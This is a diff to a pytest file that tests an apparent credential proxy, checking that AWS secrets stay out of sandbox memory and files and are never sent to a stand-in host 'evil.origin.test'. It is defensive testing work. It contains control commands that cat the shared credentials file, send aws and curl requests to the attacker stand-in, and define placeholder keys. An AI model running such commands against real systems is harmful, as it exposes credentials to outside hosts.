@@ -6,9 +6,11 @@ import urllib.parse
 
 import pytest
 
+from lib import base
 from lib.proxies import credentials as secret_file
 from lib.rogues import Rogues, read_head
 from lib.sigv4 import Given
+from lib.token_origins import look
 
 ID, SECRET, TOKEN = "AKIDREALKEY0001", "".join(["wJalrXUtnFEMI/", "K7MDENG+bPxRfi"]), "session-token/of+the=test"
 POLICY = """version: 1
@@ -32,8 +34,9 @@ def is_signed(method, target, fields, body):
 class Net(Rogues):
     def __init__(self, stack, policy):
         super().__init__(stack, policy)
-        self.objects, self.verdicts = {}, []
+        self.objects, self.verdicts, self.found, self.evil = {}, [], set(), []
         self.origin("s3.origin.test", self.s3, 443)
+        self.origin("evil.origin.test", lambda c: self.evil.append(read_head(c)), 443)
 
     def s3(self, c):
         while True:
@@ -46,6 +49,7 @@ class Net(Rogues):
             while len(body) < int(fields.get("content-length", 0)):
                 body += c.recv(65536)
             good = is_signed(method, target, fields, body)
+            self.found |= look(self, [SECRET.encode(), TOKEN.encode()], "/nonexistent")
             self.verdicts.append((method, target, good))
             path = urllib.parse.unquote(target.partition("?")[0])
             if not good:
@@ -60,8 +64,8 @@ class Net(Rogues):
     def reply(c, status, body, more=""):
         c.sendall(f"HTTP/1.1 {status}\r\n{more}content-length: {len(body)}\r\n\r\n".encode() + body)
 
-    def aws(self, *words):
-        p = subprocess.run([*self.argv(), "aws", "--endpoint-url", "https://s3.origin.test", "--region", "eu-test-1", *words],
+    def aws(self, *words, host="s3.origin.test"):
+        p = subprocess.run([*self.argv(), "aws", "--endpoint-url", f"https://{host}", "--region", "eu-test-1", *words],
                            capture_output=True, text=True, timeout=300, env=self.env(AWS_EC2_METADATA_DISABLED="true", AWS_MAX_ATTEMPTS="1"))
         print(words, p.returncode, p.stdout, p.stderr)
         return p
@@ -83,6 +87,23 @@ def test_an_object_goes_and_comes(net):
     got = net.aws("s3api", "get-object", "--bucket", "b", "--key", "a key (1)/x+y", "/dev/stderr")
     assert got.returncode == 0 and source.read_text() in got.stderr
     assert [v[2] for v in net.verdicts] == [True, True], net.verdicts
+    assert net.found == set(), "neither memory nor files of the sandbox have the key while it works"
+    with open(net.world.dir / "placeholder", "w+") as f:  # the control: of what is there it is found
+        subprocess.run([*net.argv(), "sh", "-c", "cat $AWS_SHARED_CREDENTIALS_FILE"], stdout=f, env=net.env(), timeout=120)
+        f.seek(0)
+        word = f.read().split("aws_access_key_id")[1].split("=")[1].split()[0]
+    p = net.spawn("sh", "-c", 'K=$(cat "$AWS_SHARED_CREDENTIALS_FILE"); export K; sleep 60')
+    try:
+        assert base.eventually(lambda: look(net, [word.encode()], "/nonexistent"))
+    finally:
+        base.reap(p)
+
+
+def test_another_host_gets_nothing(net):
+    p = net.aws("s3api", "list-buckets", host="evil.origin.test")
+    assert p.returncode != 0 and net.evil == []
+    assert net.events(lambda e: e["reason"] == "credential_elsewhere" and e["url"].startswith("https://evil.origin.test"))[-1]["credential"] == "aws"
+    assert net.run("curl", "-sS", "-m", "30", "https://evil.origin.test/") and net.evil, "the control"
 
 
 def test_presigned_urls_are_refused(net):
